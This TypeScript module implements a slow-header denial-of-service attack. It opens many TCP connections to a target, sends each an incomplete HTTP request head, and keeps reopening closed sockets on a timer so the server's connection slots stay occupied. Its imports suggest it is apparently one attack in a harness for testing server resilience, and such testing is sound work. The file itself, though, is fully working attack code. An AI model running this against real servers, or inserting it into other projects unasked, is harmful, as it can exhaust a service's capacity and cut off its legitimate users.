import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import { ATTACKER } from './ask-always'
import type { Attack } from './attack-job'

/** Connections that are opened before the clock is checked again. */
const AT_ONCE = 64

/**
 * Keeps connections open on which half a request head was sent, and reopens those that the server closes: all
 * of them about every five seconds.
 */
export function holdHalfHeads(lines: number): Attack {
  return async ({ url, isOver, count }) => {
    const open = new Set<Socket>()
    while (!isOver()) {
      for (let left = Math.min(AT_ONCE, lines - open.size); left > 0; left--) {
        const socket = connect({ host: url.hostname, port: Number(url.port), localAddress: ATTACKER })
        open.add(socket)
        count('line')
        socket.on('error', () => undefined)
        void once(socket, 'close').finally(() => open.delete(socket))
        socket.write('GET / HTTP/1.1\r\nHost: x\r\nX-Half: ')
      }
      await pause((5000 * AT_ONCE) / lines)
    }
    for (const socket of open) socket.destroy()
  }
}
